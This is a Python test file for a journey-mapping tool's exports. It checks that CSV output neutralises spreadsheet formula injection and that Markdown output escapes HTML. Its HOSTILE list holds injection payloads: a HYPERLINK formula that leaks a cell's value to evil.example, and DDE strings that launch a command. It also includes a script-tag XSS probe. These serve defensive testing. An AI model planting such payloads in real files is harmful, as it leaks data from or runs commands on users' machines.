"""Exports: CSV safe against formula injection, Markdown reports, Mermaid text, export_map."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cxdesigner.commands import History, add_card
from cxdesigner.interop import ExportWriteError, InteropError, export_map, import_file
from cxdesigner.interop.csv_format import COLUMNS, neutralise, read_csv, restore, write_csv
from cxdesigner.interop.markdown import write_markdown
from cxdesigner.storage import SaveError
from cxdesigner.templates import load_template

from ..factories import small_map
from ..strategies import AWKWARD
from .helpers import ALL_FILES, EMS_FILE

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+twice",
    "plain = text",
]


def hostile_map():
    m = small_map(cards_per_cell=0)
    h = History(m)
    lane = m.lanes[0]
    for text in HOSTILE:
        h.push(add_card(m, lane.id, m.touchpoints()[0].id, text))
    m.phases[0].name = "=cmd|'/C calc'!A0"
    return m


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised():
    text = write_csv(hostile_map())
    rows = list(csv.reader(io.StringIO(text)))
    assert tuple(rows[0]) == COLUMNS
    for row in rows[1:]:
        for cell in row:
            if cell and cell[0] in "=+-@\t\r":
                assert re.fullmatch(r"[+-]?\d+", cell), f"unprotected cell {cell!r}"
    texts = [row[COLUMNS.index("text")] for row in rows[1:] if row[COLUMNS.index("text")]]
    assert texts[:6] == ["'" + t for t in HOSTILE[:6]]
    assert texts[6:] == ["''=already quoted", "'''+twice", "plain = text"]
    emotions = {row[COLUMNS.index("emotion")] for row in rows[1:]}
    assert emotions <= {"", "-2", "-1", "0", "1", "2"}  # numbers stay numbers


def test_csv_import_restores_the_neutralised_cells():
    m = hostile_map()
    again = read_csv(write_csv(m).encode())
    assert sorted(c.text for c in again.cards.values()) == sorted(HOSTILE)
    assert again.phases[0].name == "=cmd|'/C calc'!A0"


@given(st.one_of(st.text(max_size=30), st.sampled_from(HOSTILE + AWKWARD)))
def test_neutralise_and_restore_are_inverse(text):
    assert restore(neutralise(text)) == text
    assert not re.match(r"[=+\-@\t\r]", neutralise(text)) or re.fullmatch(r"[+-]?\d+(\.\d+)?", text)


@pytest.mark.parametrize("path", ALL_FILES, ids=lambda p: p.name)
def test_markdown_report_holds_every_name_and_card(path):
    m = import_file(path)
    report = write_markdown(m)
    plain = re.sub(r"\\(.)", r"\1", report)
    assert plain.startswith(f"# {m.title}")
    for phase in m.phases:
        assert phase.name in plain
        for tp in phase.touchpoints:
            assert f"### {tp.name}" in plain
    for card in m.cards.values():
        assert card.text.replace("\n", "  \n  ") in plain
    marks = 2 * sum(tp.moment_of_truth for tp in m.touchpoints()) + sum(c.moment_of_truth for c in m.cards.values())
    assert plain.count("★") == marks


def test_markdown_report_of_a_template_has_persona_table_and_lanes():
    m = load_template("service-journey-en")
    report = write_markdown(m)
    assert "## Persona" in report and f"**{m.persona.name}**" in report
    assert "| Phase | Touchpoint | Channel | Emotion | Moment of truth |" in report
    assert "| Agreement / implementation | Contact form | Contact form | -2 (very negative) | ★ yes |" in report
    assert "**Pain points**" in report
    assert "## Links" in report


def test_markdown_escapes_markup_in_map_text():
    m = small_map(cards_per_cell=0)
    h = History(m)
    h.push(add_card(m, m.lanes[0].id, m.touchpoints()[0].id, "<script>alert(1)</script> | *bold* [x](y)"))
    report = write_markdown(m)
    assert "<script>" not in report
    assert r"\<script\>alert(1)\</script\> \| \*bold\* \[x\](y)" in report


def test_markdown_keeps_japanese():
    report = write_markdown(import_file(EMS_FILE))
    assert "## 1. 要件定義" in report and "### 要求を伝える" in report and "正しく意図が伝わるか不安だ" in report


@pytest.mark.parametrize("suffix", [".ojf", ".csv", ".md", ".mmd"])
def test_export_map_writes_each_format_and_reimports(tmp_path, suffix):
    m = load_template("palvelupolku-fi")
    path = tmp_path / f"out{suffix}"
    export_map(m, path)
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") == (suffix == ".csv")  # Excel needs the BOM for UTF-8
    assert b"Tarpeen syntyminen" in data
    if suffix != ".md":
        again = import_file(path)
        assert [p.name for p in again.phases] == [p.name for p in m.phases]
    assert not list(tmp_path.glob("*.cxtmp")) and not list(tmp_path.glob("*.bak"))


def test_export_map_refuses_unknown_formats_and_unwritable_places(tmp_path):
    m = small_map()
    with pytest.raises(InteropError, match=r"out\.pdf: cannot export"):
        export_map(m, tmp_path / "out.pdf")
    with pytest.raises(ExportWriteError, match="does not exist") as info:
        export_map(m, tmp_path / "missing" / "out.csv")
    assert isinstance(info.value, InteropError) and isinstance(info.value, SaveError)
    (tmp_path / "taken.md").mkdir()
    with pytest.raises(InteropError, match="a folder has that name"):
        export_map(m, tmp_path / "taken.md")


def test_export_map_format_argument_overrides_the_extension(tmp_path):
    path = tmp_path / "report.txt"
    export_map(small_map(), path, "markdown")
    assert path.read_text(encoding="utf-8").startswith("# Small map")


def test_survey_counts_survive_csv_and_show_in_the_report():
    m = small_map(cards_per_cell=1)
    web = m.touchpoints()[0]
    web.nps = (0, 0, 0, 0, 0, 0, 1, 2, 3, 4, 10)  # 20 answers: 14 promoters, 1 detractor → NPS +65
    web.ces = (5, 10, 3, 1, 1)  # 15 of 20 less effort than expected
    text = write_csv(m)
    assert "0 0 0 0 0 0 1 2 3 4 10" in text
    again = read_csv(text.encode())
    assert (again.touchpoints()[0].nps, again.touchpoints()[0].ces) == (web.nps, web.ces)
    assert again.touchpoints()[1].nps is None
    report = write_markdown(m)
    assert "NPS +65 (n = 20)" in report and "CES: 75% less effort than expected (n = 20)" in report


def test_csv_survey_counts_must_be_complete():
    head = "phase,touchpoint,nps,lane,text\n"
    with pytest.raises(InteropError, match=r"line 2, column 'nps': expected 11 answer counts"):
        read_csv((head + "A,Web,1 2 3,Thinks,Hi\n").encode())
    with pytest.raises(InteropError, match=r"line 2, column 'nps': expected answer counts"):
        read_csv((head + "A,Web,many,Thinks,Hi\n").encode())
